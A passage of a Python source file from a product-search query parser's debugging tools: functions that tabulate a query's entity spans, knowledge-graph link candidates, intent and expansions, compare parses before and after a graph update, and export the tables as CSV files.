        for name, rows in self.tables().items():
            parts.append(f"\n*{name}*\n\n" + rows.to_markdown(limit=20))
        if self.filters:
            parts.append(f"\n*filters*: `{json.dumps(self.filters, ensure_ascii=False)}`")
        return "\n".join(parts)


def drill_down(parser: Any, query: str, *, candidates: int = 5) -> DrillDown:
    """Parse ``query`` with ``parser`` (:class:`parser.QueryParser`) and lay out every step:
    the spans and their link decisions (the parse's), the top ``candidates`` KG candidates of
    each span with their features, as the parse's own link call for the span ranked them
    (the linker the parser links with: its bundle's settings, told its tagger's vocabulary;
    of a span linked through a cue, "without pockets", the call that linked the words after
    it: :attr:`SpanRow.linked_as`), the intent's top-k and the expansions with their
    provenance.

    >>> from kg import ProductGraph
    >>> from parser.pipeline import QueryParser
    >>> from parser.tagger.testing import tiny_tagger
    >>> d = drill_down(QueryParser(tagger=tiny_tagger(), kg=ProductGraph.in_memory()), "usb")
    >>> d.query, list(d.tables())
    ('usb', ['spans', 'candidates', 'intent', 'expansions'])
    """
    with _link_calls(parser) as calls:
        q = parser(query)
    lk = parser.linker.config.label_kinds if getattr(parser, "linker", None) is not None \
        else DEFAULT_LABEL_KINDS
    linker = _linker(parser.kg, parser)
    spans: Rows[SpanRow] = Rows(row_type=SpanRow)
    cands: Rows[CandidateRow] = Rows(row_type=CandidateRow)
    for e in q.entities:
        call = _parse_call(calls, e.text, e.label, e.kg_id) if calls is not None else None
        res = call.result if call is not None else _link(linker, e.text, e.label, q.text)
        decision = "linked" if e.kg_id else ("NIL" if _linkable(e.label, lk) else "not linkable")
        spans.append(SpanRow(text=e.text, start=e.start, end=e.end, label=e.label,
                             tag_score=e.score, decision=decision, kg_label=e.kg_label,
                             kg_kind=e.kg_kind, link_score=e.link_score,
                             candidates=len(res.candidates),
                             linked_as=_reading(call, e.text, e.label)))
        for rank, c in enumerate(res.candidates[:candidates], 1):
            cands.append(CandidateRow(
                mention=e.text, label=e.label, rank=rank, kg_label=c.label,
                kind=_kind_name(c.kind, c.attribute), score=round(c.score, 4),
                match_type=c.match_type, matched_alias=c.matched_alias,
                similarity=round(c.similarity, 4), type_compatibility=c.type_compatibility,
                prior=round(c.prior, 4), context=round(c.context, 4),
                chosen=c.iri == e.kg_id, iri=c.iri))
    intent: Rows[IntentRow] = Rows(row_type=IntentRow)
    if q.intent is not None:
        intent.extend(IntentRow(rank=i, category=c, probability=p)
                      for i, (c, p) in enumerate(q.intent.top_k, 1))
    expansions: Rows[ExpansionRow] = Rows((
        ExpansionRow(term=x.term, kind=x.kind, score=x.score,
                     provenance="; ".join(f"{a} -{r}-> {b}" for a, r, b in x.provenance),
                     rule=x.rule)
        for x in q.expansions), row_type=ExpansionRow)
    return DrillDown(query=q.text, normalized=q.normalized, spans=spans, candidates=cands,
                     intent=intent, expansions=expansions, filters=dict(q.filters))


# -- before / after a KG update -----------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class ChangeRow:
    """One difference between two parses of a query: ``what`` is ``link`` (a span linked to
    another node, or linked/unlinked), ``span`` (a span only one parse has) or ``intent`` (the
    top category changed)."""

    query: str
    what: str
    span: str
    before: str
    after: str


def _link_desc(e: ParsedEntity | None) -> str:
    if e is None:
        return "-"
    if e.kg_id is None:
        return f"{e.label}: NIL"
    return f"{e.label}: {e.kg_kind}:{e.kg_label} ({(e.link_score or 0.0):.2f})"


def compare_parses(before: Sequence[ParsedQuery], after: Sequence[ParsedQuery]
                   ) -> Rows[ChangeRow]:
    """What changed between two parses of the same queries (e.g. before and after a KG update,
    or with two KG versions): links, spans and the intent's top category, query by query.

    >>> from parser.types import ParsedEntity, ParsedQuery
    >>> a = ParsedQuery("acme tv", "acme tv", [ParsedEntity("acme", 0, 4, "creator", 0.9)])
    >>> b = ParsedQuery("acme tv", "acme tv", [ParsedEntity("acme", 0, 4, "creator", 0.9,
    ...                 kg_id="x", kg_label="Acme", kg_kind="brand", link_score=0.8)])
    >>> [(r.what, r.before, r.after) for r in compare_parses([a], [b])]
    [('link', 'creator: NIL', 'creator: brand:Acme (0.80)')]
    """
    if len(before) != len(after):
        raise ValueError(f"compare parses of the same queries: {len(before)} before, "
                         f"{len(after)} after")
    rows: Rows[ChangeRow] = Rows(row_type=ChangeRow)
    for qa, qb in zip(before, after, strict=True):
        if qa.text != qb.text:
            raise ValueError(f"compare parses of the same queries in the same order: "
                             f"{qa.text!r} vs {qb.text!r}")
        ea = {(e.start, e.end): e for e in qa.entities}
        eb = {(e.start, e.end): e for e in qb.entities}
        for key in sorted(set(ea) | set(eb)):
            a, b = ea.get(key), eb.get(key)
            span = (a or b).text  # type: ignore[union-attr]
            if a is None or b is None or a.label != b.label:
                rows.append(ChangeRow(qa.text, "span", span, _link_desc(a), _link_desc(b)))
            elif a.kg_id != b.kg_id:
                rows.append(ChangeRow(qa.text, "link", span, _link_desc(a), _link_desc(b)))
        ia = qa.intent.category if qa.intent else None
        ib = qb.intent.category if qb.intent else None
        if ia != ib:
            rows.append(ChangeRow(
                qa.text, "intent", "",
                f"{ia} ({qa.intent.score:.2f})" if qa.intent else "-",
                f"{ib} ({qb.intent.score:.2f})" if qb.intent else "-"))
    return rows


# -- exports ------------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class ExportRow:
    """A table written by :func:`export_tables`."""

    table: str
    rows: int
    path: str


def export_tables(tables: Mapping[str, Rows[Any] | Sequence[Any]], out_dir: str | Path
                  ) -> Rows[ExportRow]:
    """Write each table (:class:`Rows`, or a list of dataclass rows) to ``out_dir/NAME.csv``."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written: Rows[ExportRow] = Rows(row_type=ExportRow)
    for name, rows in tables.items():
        if not re.fullmatch(r"[\w.-]+", name):
            raise ValueError(f"table name {name!r}: use letters, digits, '_', '-' or '.'")
        table = rows if isinstance(rows, Rows) else Rows(rows)
        path = table.to_csv(out / f"{name}.csv")
        written.append(ExportRow(table=name, rows=len(table), path=str(path)))
    return written
